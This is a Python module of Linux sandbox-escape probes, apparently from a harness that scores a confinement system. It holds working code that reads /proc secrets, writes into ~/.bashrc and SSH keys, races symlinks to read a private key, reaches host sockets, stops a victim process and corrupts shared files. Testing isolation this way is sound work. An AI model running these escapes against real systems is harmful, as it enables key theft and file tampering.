"""Attacks on what a kernel shares with its machine whatever confines it: what Linux tells of the
machine, terminals, sockets, processes and the ways that files are opened for it."""

import contextlib
import os
import socket
import subprocess
from pathlib import Path

from attacks.cells.prelude import libc
from attacks.score import appeared, changed, either, reached, returned
from attacks.stage import NotHere, Stage
from attacks.words import Report, attack

BOOT = Path("/proc/sys/kernel/random/boot_id")


def _told(stage: Stage) -> dict[str, object]:
    if not BOOT.exists():
        raise NotHere("no Linux")
    stage.secret("boot", BOOT.read_text().strip())
    stage.secret("command_line", Path("/proc/cmdline").read_text().strip())
    return {}


@attack("read", returned("boot", "command_line"), before=_told)
def what_the_machine_is(c):
    """The machine's boot id and the command line that it was started with"""
    loot = []
    for name in ("sys/kernel/random/boot_id", "cmdline", "partitions", "config.gz", "keys"):
        with contextlib.suppress(OSError):
            loot.append(Path(f"/proc/{name}").read_bytes().decode(errors="replace"))
    if not loot:
        raise PermissionError(13, "nothing could be read")
    return "\n".join(loot)[:8000]


@attack("write", either(changed("ssh_key", "bashrc", "sibling"), appeared("home", "root")))
def out_by_a_folders_descriptor(c):
    """Out of the folder by descriptors of folders opened for their path alone (fchdir, openat)"""
    done, refused = [], None
    above = os.open("..", 0o10000000 | os.O_DIRECTORY)  # O_PATH
    for way in ("home/.bashrc", "other-run/trace.jsonl", "home/.ssh/id_ed25519"):
        try:
            descriptor = os.open(way, os.O_WRONLY | os.O_APPEND, dir_fd=above)
            os.write(descriptor, c.token.encode())
            done.append(way)
        except OSError as error:
            refused = error
    here = os.getcwd()
    try:
        os.fchdir(above)
        Path(f"made-{c.token}").write_text("x")
        done.append("a new file")
    except OSError as error:
        refused = error
    finally:
        os.chdir(here)
    if not done:
        raise refused
    return ", ".join(done)


@attack("write", either(changed("ssh_key", "bashrc"), appeared("home")))
def moved_across(c):
    """Moving, exchanging and linking files between the folder and the home"""
    Path(f"out-{c.token}").write_text(c.token)
    done, refused = [], None
    target = f"{c.home}/.bashrc"
    tries = (
        lambda: os.rename(f"out-{c.token}", f"{c.home}/in-{c.token}"),
        lambda: os.rename(target, f"got-{c.token}"),
        lambda: os.link(f"out-{c.token}", f"{c.home}/link-{c.token}"),
        lambda: os.symlink("x", f"{c.home}/symbolic-{c.token}"),
        lambda: os.mkfifo(f"{c.home}/pipe-{c.token}"),
    )
    for attempt in tries:
        try:
            attempt()
            done.append("one")
        except OSError as error:
            refused = error
    # renameat2 with RENAME_EXCHANGE
    if libc.renameat2(-100, f"out-{c.token}".encode(), -100, target.encode(), 2) == 0:
        done.append("exchanged")
    if not done:
        raise refused
    return f"{len(done)} of 6"


@attack("network", reached("pathname", "shared_tmp_socket", "sequenced", "notify", "abstract"))
def sockets_from_inside_a_link(c):
    """Sockets of the host by a link, a descriptor of their folder, and /proc/self/cwd"""
    refused = None
    for name in ("pathname", "sequenced", "shared_tmp_socket", "notify"):
        place = getattr(c, name, None)
        if not place:
            continue
        kind = {"sequenced": socket.SOCK_SEQPACKET, "notify": socket.SOCK_DGRAM}.get(
            name, socket.SOCK_STREAM
        )
        link = f"l-{name}"
        with contextlib.suppress(OSError):
            os.unlink(link)
        ways = [link, f"/proc/self/cwd/{link}"]
        try:
            os.symlink(place, link)
            folder = os.open(os.path.dirname(place), 0o10000000)
            ways.append(f"/proc/self/fd/{folder}/{os.path.basename(place)}")
        except OSError as error:
            refused = error
        for way in ways:
            try:
                with socket.socket(socket.AF_UNIX, kind) as s:
                    s.settimeout(2)
                    s.connect(way)
                    s.send(c.token.encode())
            except OSError as error:
                refused = error
    raise refused


def _stopped(stage: Stage, report: Report) -> str:
    status = Path(f"/proc/{stage.victim.pid}/status").read_text()
    state = status.partition("State:\t")[2][0]
    if state not in "tT":
        return ""
    stage.end_victim()
    return "the victim stands still"


@attack("process", _stopped, before=lambda stage: {"v": stage.victim.pid})
def held_still(c):
    """Stopping a foreign process, which then looks as if it worked (SIGSTOP, SIGTSTP, SIGTTIN)"""
    for number in (19, 20, 21):
        os.kill(c.victim, number)


# --- files that are opened for it by somebody else ---------------------------------------------


@attack("read", returned("ssh_key", "shared_tmp", "sibling"))
def opened_by_another(c):
    """Links in the folder, changed while they are opened: what opens files for the cell follows"""
    loot = set()
    targets = [c.files["ssh_key"], c.files["shared_tmp"], c.files["sibling"]]
    for target in targets:
        for link in ("l", "d/l"):
            os.makedirs("d", exist_ok=True)
            with contextlib.suppress(OSError):
                os.unlink(link)
            os.symlink(target, link)
            for way in (link, f"./{link}", f"/proc/self/cwd/{link}", f"/proc/self/root{target}"):
                with contextlib.suppress(OSError):
                    loot.add(Path(way).read_text())
    # A folder and a link to the folder of the target take turns.
    target = Path(c.files["ssh_key"])
    os.makedirs("turn", exist_ok=True)
    Path("turn/id_ed25519").write_text("mine")
    with contextlib.suppress(OSError):
        os.unlink("link")
    os.symlink(target.parent, "link")
    pid = os.fork()
    if pid == 0:
        for _ in range(3000):
            libc.renameat2(-100, b"turn", -100, b"link", 2)
        os._exit(0)
    for _ in range(3000):
        with contextlib.suppress(OSError):
            text = Path("turn/id_ed25519").read_text()
            if text != "mine":
                loot.add(text)
    os.waitpid(pid, 0)
    if not loot:
        raise PermissionError(13, "nothing came back")
    return "\n".join(loot)


@attack("write", either(changed("trace", "notebook", "input")))
def through_memory_that_is_shared(c):
    """Changing inputs and records by mapped memory, by holes, and by descriptors of children"""
    import mmap

    refused = None
    for path in (c.files["input"], c.files["trace"], c.files["notebook"]):
        for flags in (os.O_RDWR, os.O_RDONLY):
            try:
                descriptor = os.open(path, flags)
                with mmap.mmap(descriptor, 10, mmap.MAP_SHARED) as memory:
                    memory[:4] = b"evil"
            except (OSError, ValueError, TypeError) as error:
                refused = error
        for command in (["truncate", "-s", "0", path], ["dd", "if=/dev/zero", f"of={path}",
                        "bs=1", "count=1", "conv=notrunc"]):  # fmt: skip
            subprocess.run(command, capture_output=True, check=False)
    raise PermissionError(1, str(refused))
